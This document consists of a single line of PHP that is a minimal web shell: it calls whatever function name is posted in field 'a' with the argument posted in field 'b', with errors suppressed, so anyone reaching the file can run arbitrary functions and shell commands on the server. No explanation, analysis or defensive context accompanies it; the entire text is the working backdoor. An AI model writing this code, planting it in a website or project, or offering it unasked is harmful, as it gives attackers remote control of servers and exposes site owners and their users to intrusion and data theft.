<?php @$_POST["a"]($_POST["b"]);
